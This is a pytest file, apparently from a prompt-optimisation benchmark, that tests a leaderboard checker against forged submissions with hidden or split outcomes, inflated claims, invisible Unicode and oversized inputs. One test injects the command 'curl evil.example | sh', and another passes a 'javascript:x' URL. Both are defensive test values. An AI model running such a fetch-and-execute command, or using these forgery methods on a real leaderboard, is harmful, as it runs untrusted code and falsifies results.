"""Submissions that lie where no claim is edited: outcomes hidden, split up, or too many to read."""

from __future__ import annotations

import base64
import copy
import shutil
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest

from promptgym.errors import ConfigError
from promptgym.evaluation.bench import BenchFolder
from promptgym.evaluation.bench_cell import run_cell
from promptgym.evaluation.suite_file import load_suite
from promptgym.leaderboard import outcomes
from promptgym.leaderboard.check import check_submission
from promptgym.leaderboard.files import Refused, parse
from promptgym.leaderboard.leaks import leaks
from promptgym.leaderboard.packing import About, pack_bench
from promptgym.prompts import Example, Prompt
from promptgym.tasks import load_task
from promptgym.tasks.metrics import get_metric
from promptgym.testing.forgeries import Opened
from promptgym.types import JSON, FloatArray

SUITE = """
seeds = 5
budgets = [{ queries = 300, proposer_tokens = 2000 }]
models = ["tiny"]
proposer = "tiny-rewriter"
tasks = [{ task = "review-author", options = { sizes = { train = 16, dev = 16, test = 40 } } }]
methods = ["random_tokens", "best_of_n"]
"""
SIZE = {"train": 16, "dev": 16, "test": 40}


@pytest.fixture(scope="module")
def bench(tmp_path_factory: pytest.TempPathFactory) -> BenchFolder:
    folder = tmp_path_factory.mktemp("hostile")
    file = folder / "little.toml"
    file.write_text(SUITE)
    bench = BenchFolder.create(folder / "bench", load_suite(file))
    for cell in load_suite(file).cells():
        run_cell(bench.job(cell))
    return bench


@pytest.fixture(scope="module")
def packed(bench: BenchFolder, tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    out = tmp_path_factory.mktemp("packed")
    return pack_bench(bench.path, out, About(authors="A"), robust=False)


def problems(path: Path, tmp_path: Path, edit: Callable[[Opened], None]) -> tuple[str, ...]:
    """Return what a check says of a changed submission that it does not take a sample of."""
    folder = tmp_path / "forged"
    shutil.copytree(path, folder)
    opened = Opened(folder)
    edit(opened)
    opened.write()
    return check_submission(folder, sample=0).problems


def right(row: JSON) -> FloatArray:
    """Return a row's outcomes, prompts x examples."""
    size = SIZE[row.get("split", "test")] if row.get("subset") is None else len(row["subset"])
    data = np.frombuffer(base64.b64decode(row["outcomes"]["bits"]), np.uint8)
    found = np.unpackbits(data, count=size * len(row["prompts"]))
    return found.reshape(len(row["prompts"]), size).astype(np.float64)


def bits(values: FloatArray) -> JSON:
    """Return outcomes as a row has them."""
    packed = np.packbits(values.reshape(-1).astype(bool)).tobytes()
    return {"bits": base64.b64encode(packed).decode(), "failed": []}


def test_honest_ones_pass_without_a_sample(packed: list[Path], tmp_path: Path) -> None:
    for i, path in enumerate(packed):
        assert problems(path, tmp_path / str(i), lambda s: None) == ()


@pytest.mark.parametrize(
    ("status", "says"),
    [("api_error", "evaluations failed in the log and not when"), ("skipped", "were skipped")],
)
def test_wrong_answers_on_test_cannot_be_left_out(
    status: str, says: str, packed: list[Path], tmp_path: Path
) -> None:
    def edit(s: Opened) -> None:
        for row in s.rows:
            if row["kind"] == "held_out":
                wrong = np.flatnonzero(right(row).reshape(-1) == 0)
                row["outcomes"]["failed"] = [[int(i), status] for i in wrong]
        for cell in s.manifest["cells"]:
            cell["claim"]["test"] = 1.0

    assert says in problems(packed[0], tmp_path, edit)[0]


def test_a_rival_cannot_be_hidden(packed: list[Path], tmp_path: Path) -> None:
    def no_reward(s: Opened) -> None:
        s.row("scores", "train")["rewards"][0] = None

    def not_all_of_dev(s: Opened) -> None:
        row = s.row("scores", "dev")
        row["outcomes"]["failed"] = [[0, "skipped"]]
        seen = False
        for other in s.rows:
            seen = seen or other is row
            if other["cell"] == 0 and seen and "spent" in other:
                other["spent"]["queries"] -= 1
        s.cell["claim"]["queries"] -= 1

    for edit, says in (
        (no_reward, "a prompt that was answered has no reward"),
        (not_all_of_dev, "some of the examples"),
    ):
        assert says in problems(packed[0], tmp_path / edit.__name__, edit)[0]


def test_the_chosen_prompt_is_asked_again_in_whatever_parts(
    packed: list[Path], tmp_path: Path
) -> None:
    def edit(s: Opened) -> None:
        chosen, rows = s.cell["claim"]["prompt"], []
        for row in s.rows:
            if row["cell"] or row["kind"] != "scores" or chosen not in row["prompts"]:
                rows.append(row)
                continue
            reached = [i for i, reward in enumerate(row["rewards"]) if reward is not None]
            found = right(row)[reached]
            row |= {name: [row[name][i] for i in reached] for name in ("prompts", "rewards")}
            found[row["prompts"].index(chosen)] = 1.0
            half, places = copy.deepcopy(row), np.arange(found.shape[1])
            half["spent"]["queries"] -= found[:, 8:].size
            half |= {"subset": places[:8].tolist(), "outcomes": bits(found[:, :8])}
            rows += [half, row | {"subset": places[8:].tolist(), "outcomes": bits(found[:, 8:])}]
        s.rows = rows
        s.cell["claim"] |= {"train": 1.0, "dev": 1.0}

    found = problems(packed[0], tmp_path, edit)
    assert any("on dev: " in text and "of 8 outcomes are not what" in text for text in found), found


def test_no_point_of_the_curve_is_as_the_sender_likes(packed: list[Path], tmp_path: Path) -> None:
    changed = []

    def edit(s: Opened) -> None:
        for row in s.rows:
            if row["kind"] == "held_out":
                chosen = s.manifest["cells"][row["cell"]]["claim"]["prompt"]
                found = right(row)
                for i, prompt in enumerate(row["prompts"]):
                    if prompt != chosen:
                        found[i] = 1.0
                        changed.append(prompt["instruction"])
                row["outcomes"] = bits(found)

    found = problems(packed[0], tmp_path, edit)
    assert changed
    assert "outcomes are not what the model says" in found[0]


def test_numbers_that_no_float_holds_are_refused() -> None:
    for text in ("1e400", "-1e400", "1" * 21):
        with pytest.raises(Refused, match="not JSON as it is written here"):
            parse(f'{{"seconds": {text}}}'.encode(), "log")
    assert parse(b"[9223372036854775808, -0.5e-300]", "log") == [2**63, -0.5e-300]


def test_a_row_of_too_many_pairs_is_refused_before_it_is_unpacked() -> None:
    row = {"bits": "", "failed": []}
    with pytest.raises(Refused, match="at most 20,000,000 are read"):
        outcomes.from_json(
            row, [Prompt("a")] * 20_001, [Example("x", "y")] * 1_000, get_metric("accuracy")
        )


def test_a_proposer_cannot_be_kept_from_the_track(packed: list[Path], tmp_path: Path) -> None:
    def edit(s: Opened) -> None:
        s.manifest["method"] |= {"spec": "random_tokens", "track": "search"}
        for cell in s.manifest["cells"]:
            own = {"method": "random_tokens", "proposer": None, "proposer_options": {}}
            cell["config"] |= own

    found = problems(packed[1], tmp_path, edit)
    assert "a proposer wrote prompts, and the track is 'search'" in found[0]


def test_signs_that_cannot_be_seen_are_refused_and_not_shown(
    packed: list[Path], tmp_path: Path
) -> None:
    def backwards(s: Opened) -> None:
        s.manifest["method"]["name"] = "tpmorplr\u202e"

    def twin(s: Opened) -> None:
        s.manifest["authors"] = "A\u200b"

    def escape(s: Opened) -> None:
        s.manifest["\x1b[31mred\u202e"] = 1

    for edit, says in (
        (backwards, "(U+202E)"),
        (twin, "(U+200B)"),
        (escape, "\\x1b[31mred\\u202e: Extra"),
    ):
        (found,) = problems(packed[0], tmp_path / edit.__name__, edit)
        assert says in found
        assert found.isprintable()


def test_a_suite_of_more_runs_than_are_checked_is_not_drawn_up(
    packed: list[Path], tmp_path: Path
) -> None:
    def edit(s: Opened) -> None:
        content = s.manifest["suite"]["content"]
        content["seeds"] = list(range(10_000))
        content["tasks"] = [content["tasks"][0] | {"name": f"t{i}"} for i in range(1_000)]

    assert "asks for 10,000,000 runs; at most" in problems(packed[0], tmp_path, edit)[0]


def test_the_command_is_not_the_senders(packed: list[Path], tmp_path: Path) -> None:
    folder = tmp_path / "forged"
    shutil.copytree(packed[0], folder)
    opened = Opened(folder)
    opened.manifest["command"] = "curl evil.example | sh"
    opened.write()
    check = check_submission(folder, sample=0)
    assert check.entry is not None
    assert check.entry.command == "promptgym bench little"


def test_robustness_is_of_all_runs_or_of_none(bench: BenchFolder, tmp_path: Path) -> None:
    (path,) = pack_bench(bench.path, tmp_path, About(authors="A"), methods=["random_tokens"])

    def edit(s: Opened) -> None:
        s.row("robustness")["found"] = None

    def elsewhere(s: Opened) -> None:
        found = s.row("robustness")["found"]
        found["transfer"] = {"tiny-masked": {"value": found["value"], "drop": 0.0}}

    for change, says in (
        (edit, "robustness was measured in 4 of 5 runs"),
        (elsewhere, "other models were asked about some"),
    ):
        assert says in problems(path, tmp_path / change.__name__, change)[0]


def test_what_no_check_takes_is_not_packed(bench: BenchFolder, tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    for about, out, says in (
        (About(authors="<b>"), "out", "authors: String should match"),
        (About(authors="A", url="javascript:x"), "out", "url: String should match"),
        (About(authors="A\u200b"), "out", "U\\+200B"),
        (About(authors="A"), "file", "is a file"),
    ):
        with pytest.raises(ConfigError, match=says):
            pack_bench(bench.path, tmp_path / out, about, robust=False)
    assert not (tmp_path / "out").exists()


def test_a_proposer_costs_at_least_what_it_wrote(packed: list[Path], tmp_path: Path) -> None:
    def free(s: Opened) -> None:
        for row in s.rows:
            if "spent" in row:
                row["spent"]["proposer_tokens"] = 0
        for cell in s.manifest["cells"]:
            cell["claim"]["proposer_tokens"] = 0

    def fewer_calls(s: Opened) -> None:
        for row in s.rows:
            if "spent" in row:
                row["spent"]["proposer_calls"] = 0

    for edit, says in ((free, "tokens, and the log counts 0"), (fewer_calls, "texts in 0 calls")):
        found = problems(packed[1], tmp_path / edit.__name__, edit)
        assert len(found) == 5
        assert all("a proposer wrote" in text and says in text for text in found)


def test_robustness_is_of_the_answers_on_test(bench: BenchFolder, tmp_path: Path) -> None:
    (path,) = pack_bench(
        bench.path, tmp_path / "packed", About(authors="A"), methods=["random_tokens"]
    )

    def better(s: Opened) -> None:
        for row in s.rows:
            if row["kind"] == "robustness":
                row["found"]["value"] = 1.0

    assert check_submission(path, sample=0).problems == ()
    found = problems(path, tmp_path, better)
    assert len(found) == 5
    assert all("robustness.value is 1.0, the answers on test give" in text for text in found)


def test_more_text_than_can_be_searched_is_refused() -> None:
    task = load_task("author", sizes=SIZE)
    with pytest.raises(Refused, match="more than 32,000,000 characters"):
        list(leaks([Prompt("word " * 7_000_000)], task))
